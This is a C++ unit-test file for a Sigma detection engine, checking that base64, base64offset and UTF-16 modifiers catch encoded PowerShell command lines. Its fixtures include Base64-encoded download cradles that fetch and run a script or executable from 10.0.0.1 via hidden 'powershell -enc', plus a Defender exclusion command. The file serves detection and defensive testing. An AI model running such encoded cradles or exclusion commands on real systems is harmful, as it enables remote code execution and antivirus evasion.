// Encoding modifiers: base64, base64offset, utf16le/utf16be/utf16/wide
// (M = sigma-appendix-modifiers.md lines 71-81). Expected encodings were
// computed independently with Python's base64 and pySigma's offset formula.
#include <gtest/gtest.h>

#include <algorithm>

#include "sigma/field_test_encode.h"
#include "field_test_util.h"

namespace inari::sigma::testing {
namespace {

// "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/a.ps1')"
// behind PowerShell prefixes of 0, 4, 5 and 6 characters, UTF-16LE, Base64:
// what `powershell -enc` carries. 0/6 chars put the payload at offset 0 mod 3,
// 5 chars (10 bytes) at 1, 4 chars (8 bytes) at 2.
constexpr const char* kEnc0 =
    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQA"
    "UwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMAAuADAALgAxAC8AYQAuAHAAcwAxACcAKQA=";
constexpr const char* kEnc4 =
    "JABhADEAOwBJAEUAWAAgACgATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQAKQAuAEQAbwB3AG4A"
    "bABvAGEAZABTAHQAcgBpAG4AZwAoACcAaAB0AHQAcAA6AC8ALwAxADAALgAwAC4AMAAuADEALwBhAC4AcABzADEAJwApAA==";
constexpr const char* kEnc5 =
    "JABhAD0AMQA7AEkARQBYACAAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcA"
    "bgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvADEAMAAuADAALgAwAC4AMQAvAGEALgBwAHMAMQAnACkA";
constexpr const char* kEnc6 =
    "JABhAGIAPQAxADsASQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8A"
    "dwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMAAuADAALgAxAC8AYQAuAHAAcwAxACcAKQA=";
// The same script as UTF-8 behind "$x=1; ", "$x=12; ", "$x=123; " (offsets 0, 1, 2).
constexpr const char* kUtf8Off0 =
    "JHg9MTsgSUVYIChOZXctT2JqZWN0IE5ldC5XZWJDbGllbnQpLkRvd25sb2FkU3RyaW5nKCdodHRwOi8vMTAuMC4wLjEvYS5wczEnKQ==";
constexpr const char* kUtf8Off1 =
    "JHg9MTI7IElFWCAoTmV3LU9iamVjdCBOZXQuV2ViQ2xpZW50KS5Eb3dubG9hZFN0cmluZygnaHR0cDovLzEwLjAuMC4xL2EucHMxJyk=";
constexpr const char* kUtf8Off2 =
    "JHg9MTIzOyBJRVggKE5ldy1PYmplY3QgTmV0LldlYkNsaWVudCkuRG93bmxvYWRTdHJpbmcoJ2h0dHA6Ly8xMC4wLjAuMS9hLnBzMScp";

// "(New-Object Net.WebClient).DownloadFile('http://10.0.0.1/a.exe','a.exe')" in UTF-16LE, Base64 (Python):
// the same download cradle with DownloadFile, not DownloadString. (A UTF-16BE payload is no
// negative: it holds the UTF-16LE bytes of every substring one byte further on.)
constexpr const char* kEncFile =
    "KABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAEYAaQBsAGUA"
    "KAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMAAuADAALgAxAC8AYQAuAGUAeABlACcALAAnAGEALgBlAHgAZQAnACkA";

std::string Cmd(const char* enc) { return std::string("powershell.exe -NoP -NonI -W Hidden -enc ") + enc; }

TEST(Encoding, Base64MatchesPython_M73) {
  EXPECT_EQ(Base64Encode("whoami"), "d2hvYW1p");
  EXPECT_EQ(Base64Encode("a"), "YQ==");
  EXPECT_EQ(Base64Encode("ab"), "YWI=");
  EXPECT_EQ(Base64Encode(""), "");
  EXPECT_EQ(Base64Encode(Utf8ToUtf16("h\xC3\xA9llo\xE2\x82\xAC", Utf16Form::kLE)), "aADpAGwAbABvAKwg");
  EXPECT_EQ(Base64Encode(Utf8ToUtf16("a\xF0\x9F\x98\x80" "b", Utf16Form::kLE)), "YQA92ADeYgA=");  // surrogates
}

TEST(Encoding, Utf16Forms_M78_M80) {
  EXPECT_EQ(Utf8ToUtf16("cmd", Utf16Form::kLE), std::string("c\0m\0d\0", 6));
  EXPECT_EQ(Utf8ToUtf16("cmd", Utf16Form::kBE), std::string("\0c\0m\0d", 6));
  EXPECT_EQ(Utf8ToUtf16("cmd", Utf16Form::kLEWithBom), std::string("\xFF\xFE" "c\0m\0d\0", 8));
}

TEST(ModifierBase64, WholeValueEncoded_M73) {
  auto t = Compile("CommandLine|base64", {S("whoami")});
  EXPECT_TRUE(MatchStr(t, "CommandLine", "d2hvYW1p"));
  EXPECT_FALSE(MatchStr(t, "CommandLine", "whoami"));
  EXPECT_FALSE(MatchStr(t, "CommandLine", "D2HVYW1P"));  // Base64 text is case-significant
  EXPECT_FALSE(MatchStr(t, "CommandLine", "x d2hvYW1p"));
}

TEST(ModifierBase64, ThenContains_M73_M37) {
  auto t = Compile("CommandLine|base64|contains", {S("whoami")});
  EXPECT_TRUE(MatchStr(t, "CommandLine", "cmd /c echo d2hvYW1p | b64"));
  EXPECT_FALSE(MatchStr(t, "CommandLine", "cmd /c echo D2hvYW1p"));
  EXPECT_EQ(t->required_literals(), std::vector<std::string>{"d2hvYW1p"});
}

TEST(ModifierBase64, ContainsBeforeBase64IsAnError_M73) {
  std::string e = CompileError("CommandLine|contains|base64", {S("whoami")});
  EXPECT_NE(e.find("must come after"), std::string::npos) << e;
  EXPECT_NE(CompileError("CommandLine|base64", {S("who*")}), "");
  EXPECT_EQ(CompileError("CommandLine|base64", {S("who\\*")}), "");  // escaped star is plain
  EXPECT_NE(CompileError("CommandLine|base64", {S("")}), "");
}

TEST(ModifierBase64Offset, PySigmaVariants_M74) {
  auto v = Base64OffsetVariants("IEX (New");
  EXPECT_EQ(v[0], "SUVYIChOZX");
  EXPECT_EQ(v[1], "lFWCAoTmV3");
  EXPECT_EQ(v[2], "JRVggKE5ld");
}

TEST(ModifierBase64Offset, EveryOffsetOfAUtf8Script_M74) {
  auto t = Compile("CommandLine|base64offset|contains", {S("IEX (New")});
  for (const char* p : {kUtf8Off0, kUtf8Off1, kUtf8Off2}) EXPECT_TRUE(MatchStr(t, "CommandLine", Cmd(p))) << p;
  EXPECT_FALSE(MatchStr(t, "CommandLine", Cmd(kEnc0)));  // UTF-16 payload: needs wide
  EXPECT_FALSE(MatchStr(t, "CommandLine", "powershell -c IEX (New-Object Net.WebClient)"));
  EXPECT_FALSE(MatchStr(t, "CommandLine", Cmd("JHg9MTsgaWV4IChOZXctT2JqZWN0")));  // "iex (New": other bytes
}

TEST(ModifierBase64Offset, WithoutContainsIsWholeValue_M74) {
  auto t = Compile("X|base64offset", {S("IEX (New")});
  EXPECT_TRUE(MatchStr(t, "X", "lFWCAoTmV3"));
  EXPECT_FALSE(MatchStr(t, "X", "xlFWCAoTmV3"));
}

TEST(ModifierBase64Offset, TooShortValueIsAnError_M74) {
  EXPECT_NE(CompileError("X|base64offset|contains", {S("a")}), "");
  EXPECT_EQ(CompileError("X|base64offset|contains", {S("ab")}), "");
}

TEST(ModifierWideBase64Offset, RealEncodedCommand_M74_M78) {
  // utf16le|base64offset|contains on a real `-enc` command line at each offset.
  auto t = Compile("CommandLine|utf16le|base64offset|contains", {S("DownloadString")});
  for (const char* p : {kEnc0, kEnc4, kEnc5, kEnc6}) EXPECT_TRUE(MatchStr(t, "CommandLine", Cmd(p))) << p;
  EXPECT_FALSE(MatchStr(t, "CommandLine", Cmd(kUtf8Off0)));  // UTF-8 payload
  EXPECT_FALSE(MatchStr(t, "CommandLine", Cmd(kEncFile)));   // DownloadFile
  EXPECT_FALSE(MatchStr(t, "CommandLine", "powershell -c (New-Object Net.WebClient).DownloadString('x')"));
  EXPECT_FALSE(MatchStr(t, "CommandLine",
                        Cmd("SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA")));
}

TEST(ModifierWideBase64Offset, SameAsSigmaHqPrecomputedStrings_M81) {
  // rules/windows/process_creation/proc_creation_win_powershell_base64_mppreference.yml
  // lists the UTF16-LE offsets of 'Add-MpPreference ' by hand; `wide` must give them.
  auto t = Compile("CommandLine|wide|base64offset|contains", {S("Add-MpPreference ")});
  std::vector<std::string> lits = t->required_literals();
  std::vector<std::string> want = {"QQBkAGQALQBNAHAAUAByAGUAZgBlAHIAZQBuAGMAZQAgA",
                                   "EAZABkAC0ATQBwAFAAcgBlAGYAZQByAGUAbgBjAGUAIA",
                                   "BAGQAZAAtAE0AcABQAHIAZQBmAGUAcgBlAG4AYwBlACAA"};
  std::sort(want.begin(), want.end());
  EXPECT_EQ(lits, want);
  EXPECT_TRUE(MatchStr(t, "CommandLine", "powershell -e xQQBkAGQALQBNAHAAUAByAGUAZgBlAHIAZQBuAGMAZQAgAx"));
  EXPECT_FALSE(MatchStr(t, "CommandLine", "powershell -e QQBkAGQALQBNAHAAUAByAGUAZgBlAHIAZQBuAGMAZQ"));
  // "powershell Add-MpPreference -ExclusionPath C:" in UTF-16LE (Python) at byte offset 1; the same
  // with "(" for the trailing space; UTF-8 Base64 of "Add-MpPreference ".
  EXPECT_TRUE(MatchStr(t, "CommandLine",
                       "powershell -e eHAAbwB3AGUAcgBzAGgAZQBsAGwAIABBAGQAZAAtAE0AcABQAHIAZQBmAGUAcgBlAG4AYwBlACAALQBF"
                       "AHgAYwBsAHUAcwBpAG8AbgBQAGEAdABoACAAQwA6AA=="));
  EXPECT_FALSE(MatchStr(t, "CommandLine",
                        "powershell -e cABvAHcAZQByAHMAaABlAGwAbAAgAEEAZABkAC0ATQBwAFAAcgBlAGYAZQByAGUAbgBjAGUAKAAtAEUA"
                        "eABjAGwAdQBzAGkAbwBuAFAAYQB0AGgAIABDADoAKQA="));
  EXPECT_FALSE(MatchStr(t, "CommandLine", "powershell -e QWRkLU1wUHJlZmVyZW5jZSA="));
}

TEST(ModifierUtf16be, BigEndianVariants_M79) {
  auto t = Compile("X|utf16be|base64offset|contains", {S("Invoke-WebRequest")});
  EXPECT_TRUE(MatchStr(t, "X", "..AEkAbgB2AG8AawBlAC0AVwBlAGIAUgBlAHEAdQBlAHMAd.."));
  EXPECT_TRUE(MatchStr(t, "X", "..BJAG4AdgBvAGsAZQAtAFcAZQBiAFIAZQBxAHUAZQBzAH.."));
  EXPECT_TRUE(MatchStr(t, "X", "..ASQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0.."));
  EXPECT_FALSE(MatchStr(t, "X", "..SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0A.."));  // the LE form
  EXPECT_FALSE(MatchStr(t, "X", "..SW52b2tlLVdlYlJlcXVlc3Q=.."));  // UTF-8
  EXPECT_FALSE(MatchStr(t, "X", "..AGkAbgB2AG8AawBlAC0AdwBlAGIAcgBlAHEAdQBlAHMAdA==.."));  // BE of "invoke-webrequest"
}

TEST(ModifierUtf16, BomThenBase64_M80) {
  auto t = Compile("X|utf16|base64", {S("whoami")});
  EXPECT_TRUE(MatchStr(t, "X", "//53AGgAbwBhAG0AaQA="));
  EXPECT_FALSE(MatchStr(t, "X", "dwBoAG8AYQBtAGkA"));  // LE without BOM
  auto le = Compile("X|utf16le|base64", {S("whoami")});
  EXPECT_TRUE(MatchStr(le, "X", "dwBoAG8AYQBtAGkA"));
  EXPECT_FALSE(MatchStr(le, "X", "//53AGgAbwBhAG0AaQA="));
  auto be = Compile("X|utf16be|base64", {S("whoami")});
  EXPECT_TRUE(MatchStr(be, "X", "AHcAaABvAGEAbQBp"));
  EXPECT_FALSE(MatchStr(be, "X", "dwBoAG8AYQBtAGkA"));
}

TEST(ModifierUtf16, WideAloneCanNeverMatchUtf8Text_M78) {
  for (auto key : {"X|wide", "X|utf16le", "X|utf16be", "X|utf16", "X|wide|contains", "X|base64|wide"}) {
    std::string e = CompileError(key, {S("cmd")});
    EXPECT_NE(e.find("base64"), std::string::npos) << key << ": " << e;
  }
}

TEST(ModifierWindashBase64, WindashExpandsBeforeEncoding_M50_M74) {
  auto t = Compile("X|windash|base64offset|contains", {S("-nop")});
  EXPECT_TRUE(MatchStr(t, "X", "zz" + Base64Encode("x -nop y")));
  EXPECT_TRUE(MatchStr(t, "X", "zz" + Base64Encode("x /nop y")));
  EXPECT_TRUE(MatchStr(t, "X", "zz" + Base64Encode("xx \xE2\x80\x94nop y")));
  EXPECT_FALSE(MatchStr(t, "X", "zz" + Base64Encode("x +nop y")));
  EXPECT_FALSE(MatchStr(t, "X", "x -nop y"));
}

}  // namespace
}  // namespace inari::sigma::testing
